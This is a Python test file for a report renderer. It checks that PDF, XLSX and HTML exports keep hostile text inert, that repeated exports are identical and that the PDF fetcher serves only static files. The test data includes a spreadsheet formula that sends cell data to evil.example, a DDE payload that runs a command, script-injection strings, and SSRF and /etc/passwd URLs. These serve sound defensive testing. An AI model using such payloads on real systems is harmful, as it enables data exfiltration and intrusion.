"""Renderers: every D3.2 row in the PDF and the XLSX, no formula cells, identical exports, safe fetching."""

import io
import os
import re
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from weasyprint.urls import URLFetchingError

from consortium.dates import format_datetime
from reports.d32 import build_d32
from reports.progress import build_progress
from reports.render import BASE_URL, StaticOnlyFetcher, render_html, render_pdf
from reports.xlsx import render_xlsx
from tests.factories import AgreementFactory, EngagementFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTabbed",
    "\rReturn",
    "<script>alert(1)</script>",
    "two\n<script>alert(2)</script>",
]


def pdf_text(content: bytes) -> str:
    if not Path("/usr/bin/pdftotext").exists():
        if os.environ.get("REQUIRE_BROWSER") == "1":  # CI installs every system package and skips nothing
            pytest.fail("/usr/bin/pdftotext is missing: apt-get install -y poppler-utils")
        pytest.skip("/usr/bin/pdftotext is missing (apt-get install -y poppler-utils): PDF text not checked")
    result = subprocess.run(  # noqa: S603 - fixed argv
        ["/usr/bin/pdftotext", "-", "-"], input=content, capture_output=True, check=True, timeout=60
    )
    return result.stdout.decode("utf-8")


def squash(text: str) -> str:
    """Text without white space or hyphens: pdftotext joins a word hyphenated at a line end."""
    return re.sub(r"[\s\-\u00ad]+", "", text)


def cell_values(content: bytes) -> dict:
    book = load_workbook(io.BytesIO(content))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


def formula_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [
        (ws.title, c.coordinate)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_hostile_text_stays_text_in_xlsx_and_escaped_in_html(project, periods, wp3):
    for position, text in enumerate(HOSTILE, start=1):
        EngagementFactory(project=project, name=text, description=text, position=position)
        AgreementFactory(project=project, name=text, kind="business", status="negotiating", position=position)
    ctx = build_d32(project, periods[1])

    content = render_xlsx(ctx)
    html = render_html(ctx)

    assert formula_cells(content) == []
    values = {v for rows in cell_values(content).values() for row in rows for v in row}
    assert set(HOSTILE) <= values
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(2)</script>" not in html and "two<br>&lt;script&gt;alert(2)" in html
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))


def test_two_exports_of_unchanged_data_are_identical(project, periods, wp3):
    EngagementFactory(
        project=project,
        name="Composites United",
        date_start=date(2021, 5, 26),
        date_end=date(2021, 5, 26),
        date_precision="day",
    )
    first = build_d32(project, periods[1])
    second = build_d32(project, periods[1])

    assert cell_values(render_xlsx(first)) == cell_values(render_xlsx(second))
    assert pdf_text(render_pdf(first)) == pdf_text(render_pdf(second))
    assert render_html(first) == render_html(second)


def test_every_format_states_the_data_as_of_time(project, periods, wp3):
    EngagementFactory(project=project, name="Anything")
    ctx = build_progress(project, periods[1])
    stamp = format_datetime(ctx["meta"]["data_as_of"])

    assert f"Data as of {stamp}" in " ".join(pdf_text(render_pdf(ctx)).split())
    assert stamp in render_html(ctx)


def test_pdf_fetcher_serves_static_files_and_refuses_everything_else():
    fetcher = StaticOnlyFetcher()

    assert b"@page" in fetcher.fetch(f"{BASE_URL}static/css/print.css").read()
    for url in (
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        f"{BASE_URL}static/../../x",
        "https://example.org/static/css/print.css",
        f"{BASE_URL}media/evidence.pdf",
    ):
        with pytest.raises(URLFetchingError):
            fetcher.fetch(url)
